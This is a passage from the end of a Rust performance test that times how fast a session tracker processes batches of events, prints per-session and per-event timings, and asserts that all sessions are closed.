        let events: usize = batches.iter().map(Vec::len).sum();
        let start = std::time::Instant::now();
        for b in &mut batches {
            t.observe(b);
        }
        let el = start.elapsed();
        eprintln!(
            "{n} sessions, {events} events: {:?}, {:.2} us/session, {:.0} ns/event",
            el,
            el.as_secs_f64() * 1e6 / n as f64,
            el.as_secs_f64() * 1e9 / events as f64
        );
        assert_eq!(t.open_sessions(), 0);
    }
}
